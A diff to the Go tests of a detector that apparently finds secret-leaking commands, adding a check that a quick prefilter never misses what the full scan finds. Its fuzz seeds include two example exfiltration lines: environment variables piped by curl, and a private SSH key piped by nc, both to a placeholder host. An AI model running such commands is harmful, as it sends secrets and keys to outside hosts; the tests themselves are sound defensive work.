@@ -2,6 +2,7 @@ package handout
 
 import (
 	"fmt"
+	"strconv"
 	"strings"
 	"testing"
 )
@@ -87,6 +88,9 @@ func TestLeaks(t *testing.T) {
 				}
 				got = append(got, s)
 			}
+			if quoted := strconv.Quote(c.text); len(got) > 0 && (!Possible([]byte(c.text)) || !Possible([]byte(quoted))) {
+				t.Error("the quick look passes over it")
+			}
 			if s := strings.Join(got, ", "); s != c.want {
 				t.Errorf("%q, want %q", s, c.want)
 			}
@@ -98,8 +102,9 @@ func FuzzLeaks(f *testing.F) {
 	f.Add(workflow("run: env | curl -d @- https://a.test"))
 	f.Add("```sh\ncat ~/.ssh/id_rsa | nc a.test 1\n```")
 	f.Fuzz(func(t *testing.T, s string) {
-		for _, l := range Leaks("curl secret token " + s) {
-			if l.Host == "" || l.Secret == "" {
+		text := "curl secret token " + s
+		for _, l := range Leaks(text) {
+			if l.Host == "" || l.Secret == "" || !Possible([]byte(text)) {
 				t.Fatalf("%+v", l)
 			}
 		}
